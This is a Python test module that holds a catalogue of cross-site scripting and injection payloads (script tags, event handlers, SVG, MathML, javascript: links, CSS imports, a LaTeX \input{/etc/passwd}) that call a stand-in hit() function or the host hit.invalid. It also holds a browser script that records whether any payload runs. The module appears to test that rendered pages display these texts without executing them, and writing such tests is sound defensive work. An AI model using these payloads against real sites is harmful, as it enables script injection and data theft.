"""Texts that a page must show and never obey, by kind; each would call `hit(N)` or ask `hit.invalid` for something.

`HIT` stands for the number of the payload. `WATCH` is put into a page before all that is its own.
"""

import re

from analysis.cleaning.raw import (
    BREAK_COLUMNS,
    CLAIM_COLUMNS,
    CORRECTION_COLUMNS,
    EVENT_COLUMNS,
    FIGURE_COLUMNS,
    PUBLICATION_COLUMNS,
)

_KINDS = {
    "script": [
        "<script>hit(HIT)</script>",
        "<ScRiPt/x>hit(HIT)</ScRiPt >",
        "<script src=https://hit.invalid/HIT></script>",
        '"><script>hit(HIT)</script>',
    ],
    "a tag closed": [
        "</script><script>hit(HIT)</script>",
        "</title><script>hit(HIT)</script>",
        "</style></template></table></div><img src=x onerror=hit(HIT)>",
        "--><script>hit(HIT)</script><!--",
        "<!--<script>",
        "]]><script>hit(HIT)</script>",
    ],
    "event handler": [
        "<img src=x onerror=hit(HIT)>",
        "<b onmouseover=hit(HIT) onfocus=hit(HIT) tabindex=0 autofocus>x</b>",
        '" onfocus="hit(HIT)" autofocus tabindex="0',
        "' onmouseover='hit(HIT)' x='",
        "<details open ontoggle=hit(HIT)>",
        "<input onfocus=hit(HIT) autofocus>",
        "<video><source onerror=hit(HIT)></video>",
    ],
    "element": [
        '<iframe srcdoc="<script>parent.hit(HIT)</script>"></iframe>',
        '<object data="data:text/html,<script>parent.hit(HIT)</script>"></object>',
        '<meta http-equiv="refresh" content="0;url=https://hit.invalid/HIT">',
        '<base href="https://hit.invalid/HIT/">',
        '<form id=f action="https://hit.invalid/HIT"></form><button form=f autofocus>x</button>',
    ],
    "SVG": [
        "<svg onload=hit(HIT)>",
        "<svg><script>hit(HIT)</script></svg>",
        '<svg><a xlink:href="javascript:hit(HIT)"><text>x</text></a><animate onbegin=hit(HIT) attributeName=x dur=1s></svg>',
    ],
    "MathML": ["<math><mtext><table><mglyph><style><!--</style><img src=x onerror=hit(HIT)>"],
    "address": ['<a href="javascript:hit(HIT)">x</a>', "javascript:hit(HIT)", "data:text/html,<script>hit(HIT)</script>"],
    "Markdown": ["[x](javascript:hit(HIT))", "![x](https://hit.invalid/HIT)", "```mermaid <img src=x onerror=hit(HIT)> ```"],
    "LaTeX": [r"$\href{javascript:hit(HIT)}{x}$ \input{/etc/passwd} $\frac{$"],
    "Styler": ['</th><th class="col_heading" onclick="hit(HIT)"><img src=x onerror=hit(HIT)>'],
    "template": ["{{ 7 * 7 }}{% for x in () %}{slot}%(x)s@style@@policy@<style></style>"],
    "CSS": [
        "<style>@import url(https://hit.invalid/HIT); * { background: url(https://hit.invalid/HIT) }</style>",
        '" style="background: url(https://hit.invalid/HIT)',
        "<link rel=stylesheet href=https://hit.invalid/HIT>",
    ],
    "policy": ["<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>hit(HIT)</script>"],
    "entities": ["&lt;img src=x onerror=hit(HIT)&gt;&#60;script&#62;hit(HIT)&#60;/script&#62;"],
    "unseen": ["<scr\0ipt>hit(HIT)</scr\0ipt>", "\u202e<script>hit(HIT)</script>", "java\tscript:hit(HIT)"],
}  # fmt: skip
KIND = {text.replace("HIT", str(10 + at)): kind for at, (kind, text) in enumerate(
    (kind, text) for kind, texts in _KINDS.items() for text in texts)}  # fmt: skip
PAYLOADS = list(KIND)
SEEN = [
    payload for payload, kind in KIND.items() if kind != "unseen"
]  # the others are refused everywhere

# A raw file of each form, and the columns of it that take any text.
COLUMNS = {
    "us_government.csv": FIGURE_COLUMNS, "articles.csv": FIGURE_COLUMNS, "publications.csv": PUBLICATION_COLUMNS,
    "corrections.csv": CORRECTION_COLUMNS, "breaks.csv": BREAK_COLUMNS, "claims.csv": CLAIM_COLUMNS,
    "events.csv": EVENT_COLUMNS,
}  # fmt: skip
FREE = {
    "us_government.csv": {"locator", "note"}, "articles.csv": {"note"}, "publications.csv": {"publisher", "title", "date_basis"},
    "corrections.csv": {"reason"}, "breaks.csv": {"reason"}, "claims.csv": {"wording", "note"}, "events.csv": set(),
}  # fmt: skip

# What is kept from the first: calls, and each element or attribute that could do more than show.
WATCH = """
window.hits = [];
window.hit = (number) => window.hits.push(number);
for (const name of ["alert", "confirm", "prompt", "open", "fetch"]) window[name] = () => window.hits.push(name);
window.kinds = () => {
  const found = {}, count = (name) => { found[name] = (found[name] || 0) + 1; };
  const live = "script iframe frame object embed applet img image math form input base link meta style video audio source template annotation-xml foreignobject animate set".split(" ");
  for (const element of document.querySelectorAll("*")) {
    const tag = element.localName.toLowerCase();
    if (live.includes(tag)) count(tag);
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || name === "srcdoc") count(`${tag} ${name}`);
      if (/^(href|xlink:href|src|action|formaction|data)$/.test(name)) {
        const address = value.trim().toLowerCase();
        const start = /^[a-z][a-z0-9+.-]*:/.exec(address);
        if (start && !["https:", "http:"].includes(start[0]) && !address.startsWith("data:text/csv")) count(`${tag} ${start[0]}`);
      }
    }
  }
  return found;
};
"""


def shown(payload: str) -> str:
    """A payload as a browser shows it in a line of text."""
    return re.sub(r"\s+", " ", payload).strip()
